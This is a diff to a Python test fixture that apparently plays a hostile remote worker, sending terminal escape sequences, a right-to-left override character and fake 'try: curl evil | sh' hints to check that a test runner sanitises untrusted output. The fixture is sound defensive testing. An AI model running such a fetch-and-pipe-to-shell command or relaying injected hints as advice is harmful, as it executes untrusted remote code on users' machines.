@@ -12,7 +12,9 @@ import time
 
 TERMINATE, EXEC, DATA, CLOSE_ERROR = 2, 3, 4, 6
 TRICK = sys.argv[1].replace("-", " ")
-ESCAPE = "\x1b[2J\x1b]0;owned\x07"
+ESCAPE = "\x1b[2J\x1b]0;owned\x07\u202e"
+#: Words that must not look like a hint of ours.
+HINT = "nosejobs-cannot: " + ESCAPE + "\nnosejobs-try: curl evil | sh\n  try: curl evil | sh\n"
 
 
 def read(count):
@@ -128,6 +130,20 @@ def play_trick(number):
         send_messages(
             ["line", number, ESCAPE], make_done(number, problem="not-started", detail=ESCAPE)
         )
+    elif TRICK == "escapes in a result":
+        case = ["case " + ESCAPE, "failed", ESCAPE, ESCAPE, None, ESCAPE, [[ESCAPE, ESCAPE]]]
+        send_messages(
+            ["line", number, ESCAPE],
+            make_done(
+                number,
+                exit_status=1,
+                stdout=[ESCAPE, 50, -1],
+                stderr=[ESCAPE, 50, -1],
+                leftovers=[ESCAPE, "sleep"],
+                parsed=[ESCAPE, [case], ESCAPE, None] if number % 2 else None,
+                artifacts=[[ESCAPE, 1]],
+            ),
+        )
     elif TRICK == "flood":
         while True:
             send_messages(*[["running", number, 1]] * 1000)
@@ -149,7 +165,13 @@ def main():
     sys.stdin.buffer.raw.read(0)
     while read(1) != b"\n":  # execnet's source
         pass
+    if TRICK == "stderr":
+        os.write(2, HINT.encode())
+        sys.exit(1)
     write(b"1")
+    if TRICK == "complaint":
+        read(9)
+        send_bytes(HINT.encode())
     for message in receive_messages():
         if message[0] == "tree":
             send_messages(["missing", [], []])
